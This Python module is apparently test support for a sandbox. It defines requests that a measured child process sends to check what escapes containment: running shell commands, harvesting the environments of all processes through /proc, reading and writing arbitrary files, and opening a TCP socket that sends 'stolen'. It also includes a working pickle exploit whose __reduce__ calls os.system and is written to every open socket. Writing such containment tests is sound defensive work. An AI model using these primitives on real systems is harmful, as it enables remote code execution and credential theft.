"""What a program that got past admission would do in a measuring process: run a command, read the
environment and files, write outside its directory, open a socket, answer its parent with a pickle.

Each is a request (``execute``) that a test sends to a real measuring child (``ChildProcess``), as
a built library's code would run there; each returns what it managed, as text.
"""

from __future__ import annotations

import os
import pickle
import socket
import stat
import struct
import subprocess
import time
from dataclasses import dataclass
from pathlib import Path


@dataclass(frozen=True)
class RunCommand:
    """Run a shell command; its output and exit status."""

    command: str

    def execute(self) -> str:
        done = subprocess.run(
            ["/bin/sh", "-c", self.command], capture_output=True, text=True, check=False
        )
        return f"{done.returncode}\n{done.stdout}{done.stderr}"


@dataclass(frozen=True)
class ReadEnvironment:
    """Every environment this process can read: its own and those of every process it sees."""

    def execute(self) -> str:
        texts = [repr(dict(os.environ))]
        for entry in Path("/proc").iterdir():
            if entry.name.isdigit():
                try:
                    texts.append((entry / "environ").read_bytes().decode(errors="replace"))
                except OSError:
                    continue
        return "\n".join(texts)


@dataclass(frozen=True)
class ReadFile:
    """A file's text, or the error reading it."""

    path: str

    def execute(self) -> str:
        try:
            return Path(self.path).read_text()
        except OSError as error:
            return f"refused: {error}"


@dataclass(frozen=True)
class WriteFile:
    """Write ``path``; what happened."""

    path: str

    def execute(self) -> str:
        try:
            Path(self.path).write_text("written by a measured program")
        except OSError as error:
            return f"refused: {error}"
        return "written"


@dataclass(frozen=True)
class Connect:
    """Open a TCP connection and send a line; what happened."""

    host: str
    port: int

    def execute(self) -> str:
        try:
            with socket.create_connection((self.host, self.port), timeout=5) as connection:
                connection.sendall(b"stolen\n")
        except OSError as error:
            return f"refused: {error}"
        return "connected"


@dataclass(frozen=True)
class PickleReply:
    """Answer the parent with a pickle whose loading runs ``command``, on every socket this
    process holds, before the real reply could go."""

    command: str

    def execute(self) -> str:
        payload = pickle.dumps(("ok", _Exploit(self.command)))
        frame = struct.pack("!i", len(payload)) + payload
        for fd in os.listdir("/proc/self/fd"):
            try:
                if stat.S_ISSOCK(os.fstat(int(fd)).st_mode):
                    os.write(int(fd), frame)
            except OSError:
                continue
        time.sleep(5)
        return "sent"


class _Exploit:
    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self) -> tuple:
        return (os.system, (self.command,))
